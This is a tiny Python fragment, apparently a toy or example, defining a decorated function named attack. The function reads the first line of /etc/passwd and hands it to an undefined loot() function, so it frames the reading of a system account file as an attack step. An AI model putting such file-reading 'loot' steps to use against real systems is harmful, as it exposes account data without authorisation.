@at_once
def attack():
    loot(open('/etc/passwd').readline())
